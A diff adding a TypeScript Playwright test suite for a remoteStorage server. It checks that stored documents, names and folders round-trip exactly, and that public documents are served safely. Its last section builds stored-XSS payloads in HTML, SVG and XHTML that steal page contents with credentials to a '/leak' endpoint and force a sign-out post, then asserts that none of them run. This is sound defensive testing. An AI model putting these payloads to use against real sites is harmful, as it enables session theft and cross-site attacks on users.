@@ -1,0 +1,212 @@
+/** What apps store is what the server has, to the byte, and what they get back: §3 to §6. */
+
+import type { Page } from "playwright-core";
+import { describe, expect, test } from "vitest";
+import { list, readBytes, readText, remove, storeBytes, stored, storeText } from "./support/app";
+import { RELEASES, type Release } from "./support/app-server";
+import { useStage } from "./support/stage";
+import { connectApp, signUp } from "./support/steps";
+
+const stage = useStage();
+
+const ALL_BYTES = Uint8Array.from({ length: 1024 }, (_, index) => (index * 7 + (index >> 8)) & 255);
+
+const NAMES = [
+  "two words",
+  "ünïcödé",
+  "e\u0301 decomposed",
+  "日本語",
+  "🎒 emoji 👩‍👩‍👧",
+  "100%",
+  "%41",
+  "%2F",
+  'quo"te',
+  "apo'strophe",
+  "a+b",
+  "(round) [square]",
+  "#hash",
+  "what?",
+  "a&b=c",
+  ".hidden",
+  "..two dots",
+  "...",
+  "semi;colon, comma: $@~!*",
+  "back\\slash",
+  "<tag>{curly}|^`",
+  " blanks ",
+];
+
+async function openApp(release: Release, module = "notes"): Promise<Page> {
+  const context = await stage.newContext();
+  const name = await signUp(stage, context);
+  return connectApp(stage, context, { name, release, module });
+}
+
+describe.each(RELEASES)("remotestorage.js %s", (release) => {
+  test("§4 text: stored, listed, got, changed and removed", async () => {
+    const page = await openApp(release);
+    await storeText(page, "hello", "Grüße, 世界 🎒\r\n\0");
+    expect(await list(page)).toEqual(["hello"]);
+    expect(await readText(page, "hello")).toBe("Grüße, 世界 🎒\r\n\0");
+    await storeText(page, "hello", "Changed");
+    expect(await readText(page, "hello")).toBe("Changed");
+    const { headers } = await stored(page, "/notes/hello");
+    expect(headers.get("Content-Type")).toMatch(/^text\/plain/);
+
+    await remove(page, "hello");
+    expect(await list(page)).toEqual([]);
+    expect(await readText(page, "hello")).toBeUndefined();
+    expect((await stored(page, "/notes/hello")).status).toBe(404);
+  });
+
+  test("§4 an object: stored, and got as it was", async () => {
+    const page = await openApp(release);
+    const note = { text: "Grüße 🎒", tags: ["a", "b"], nested: { empty: null, number: 0.5 } };
+    await page.evaluate((note) => window.documents.storeObject("note", "one", note), note);
+    const found = await page.evaluate(() => window.documents.getObject("one", false));
+    expect(found).toMatchObject(note);
+    expect(await (await stored(page, "/notes/one")).json()).toEqual(found);
+  });
+
+  test("§4 binary: the server has every byte", async () => {
+    const page = await openApp(release);
+    await storeBytes(page, "bytes", ALL_BYTES);
+    const response = await stored(page, "/notes/bytes");
+    expect(new Uint8Array(await response.arrayBuffer())).toEqual(ALL_BYTES);
+    expect(response.headers.get("Content-Type")).toMatch(/^application\/octet-stream/);
+    // 2.0.0-beta.10 takes binary documents of every server for text when it reads them.
+    if (release === "1.2.3") expect(await readBytes(page, "bytes")).toEqual(ALL_BYTES);
+  });
+
+  test("§4 a document of some megabytes", async () => {
+    const page = await openApp(release);
+    const length = 3 * 1024 * 1024 + 1;
+    await page.evaluate((length) => {
+      const bytes = Uint8Array.from({ length }, (_, index) => (index * 31 + (index >> 8)) & 255);
+      return window.documents.storeFile("application/octet-stream", "large", bytes.buffer);
+    }, length);
+    const bytes = new Uint8Array(await (await stored(page, "/notes/large")).arrayBuffer());
+    expect(bytes.length).toBe(length);
+    expect(bytes.every((byte, index) => byte === ((index * 31 + (index >> 8)) & 255))).toBe(true);
+  });
+
+  test("§4 an empty document is a document", async () => {
+    const page = await openApp(release);
+    await storeText(page, "empty", "");
+    expect(await list(page)).toEqual(["empty"]);
+    const response = await stored(page, "/notes/empty");
+    expect(response.status).toBe(200);
+    expect(await response.text()).toBe("");
+  });
+
+  test("§3 every name comes back as it was given", async () => {
+    const page = await openApp(release);
+    for (const name of NAMES) await storeText(page, name, `Text of ${name}`);
+    expect(await list(page)).toEqual([...NAMES].sort());
+    for (const name of NAMES) expect(await readText(page, name)).toBe(`Text of ${name}`);
+    for (const name of NAMES) await remove(page, name);
+    expect(await list(page)).toEqual([]);
+  });
+
+  test("§4 folders come with their documents and go with them, whatever their names", async () => {
+    const page = await openApp(release);
+    await storeText(page, "2026/ünï 🎒/100% + #1/deep", "Deep");
+    await storeText(page, "2026/beside", "Beside");
+    expect(await list(page)).toEqual(["2026/"]);
+    expect(await list(page, "2026/")).toEqual(["beside", "ünï 🎒/"]);
+    expect(await list(page, "2026/ünï 🎒/")).toEqual(["100% + #1/"]);
+    expect(await readText(page, "2026/ünï 🎒/100% + #1/deep")).toBe("Deep");
+    await remove(page, "2026/ünï 🎒/100% + #1/deep");
+    expect(await list(page, "2026/")).toEqual(["beside"]);
+    expect(await list(page, "2026/ünï 🎒/")).toEqual([]);
+  });
+
+  test("§9 a public document is there for everyone: by fetch, and in a picture", async () => {
+    const page = await openApp(release);
+    const url = await page.evaluate(async () => {
+      const canvas = Object.assign(document.createElement("canvas"), { width: 7, height: 5 });
+      const blob = await new Promise<Blob | null>((resolve) => canvas.toBlob(resolve, "image/png"));
+      const bytes = (await blob?.arrayBuffer()) as ArrayBuffer;
+      await window.publicDocuments.storeFile("image/png", "a picture.png", bytes);
+      return window.publicDocuments.getItemURL("a picture.png");
+    });
+    expect(url).toContain("/public/notes/a%20picture.png");
+
+    const stranger = await (await stage.newContext()).newPage();
+    await stranger.goto(`${stage.apps.origin}/frame`);
+    const seen = await stranger.evaluate(async (url) => {
+      const response = await fetch(url);
+      const image = new Image();
+      image.src = url;
+      await image.decode();
+      const { naturalWidth: width, naturalHeight: height } = image;
+      return { type: response.headers.get("Content-Type"), width, height };
+    }, url);
+    expect(seen).toEqual({ type: expect.stringMatching(/^image\/png/), width: 7, height: 5 });
+  });
+});
+
+describe("§14 a document that attacks", () => {
+  const LEAK = "/leak";
+  const attack = (leak: string) => `
+    document.title = "attacked";
+    window.attacked = true;
+    new Image().src = "${leak}";
+    fetch("${leak}");
+    fetch("/", { credentials: "include" }).then((page) => page.text()).then((text) => {
+      location = "${leak}?" + encodeURIComponent(text);
+    });`;
+
+  const DOCUMENTS = {
+    "text/html": (leak: string) => `<!doctype html><title>Harmless</title>
+      <script>${attack(leak)}</script>
+      <script src="data:text/javascript,document.title='attacked'"></script>
+      <img src="data:," onerror="document.title = 'attacked'">
+      <img src="${leak}">
+      <body onload="document.title = 'attacked'">
+      <iframe src="javascript:parent.document.title = 'attacked'"></iframe>
+      <form action="/sign-out" method="post"><button autofocus>Win</button></form>`,
+    "image/svg+xml": (leak: string) => `<svg xmlns="http://www.w3.org/2000/svg"
+      onload="document.title = 'attacked'"><title>Harmless</title>
+      <script>${attack(leak).replaceAll("&", "&amp;")}</script>
+      <image href="${leak}"/>
+      <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${leak}"/></foreignObject>
+      </svg>`,
+    "application/xhtml+xml": (leak: string) => `<html xmlns="http://www.w3.org/1999/xhtml">
+      <head><title>Harmless</title><script>${attack(leak).replaceAll("&", "&amp;")}</script></head>
+      <body onload="document.title = 'attacked'"/></html>`,
+  };
+
+  test.each(Object.entries(DOCUMENTS))(
+    "of %s runs nothing, whoever opens it",
+    async (type, write) => {
+      const context = await stage.newContext();
+      const name = await signUp(stage, context);
+      const app = await connectApp(stage, context, { name, release: "1.2.3" });
+      const leak = stage.apps.origin + LEAK;
+      const url = await app.evaluate(
+        async ([type, body]) => {
+          await window.publicDocuments.storeFile(type, "attack", body);
+          return window.publicDocuments.getItemURL("attack");
+        },
+        [type, write(leak)] as const,
+      );
+
+      const page = await context.newPage();
+      const requests: string[] = [];
+      page.on("request", (request) => requests.push(request.url()));
+      const response = await page.goto(url);
+      expect(response?.headers()["content-type"]).toContain(type);
+      expect(await page.title()).toBe("Harmless");
+      expect(await page.evaluate(() => "attacked" in window)).toBe(false);
+      expect(await page.evaluate(() => window.origin)).toBe("null");
+      // Nothing it may do later either: a form is not sent.
+      if (type === "text/html") await page.getByRole("button").click();
+      expect(requests.filter((other) => other !== url && !other.startsWith("data:"))).toEqual([]);
+      expect(stage.apps.strays).not.toContain(LEAK);
+      const home = await context.newPage();
+      await home.goto(stage.url);
+      await home.getByRole("button", { name: "Sign out" }).waitFor();
+    },
+  );
+});
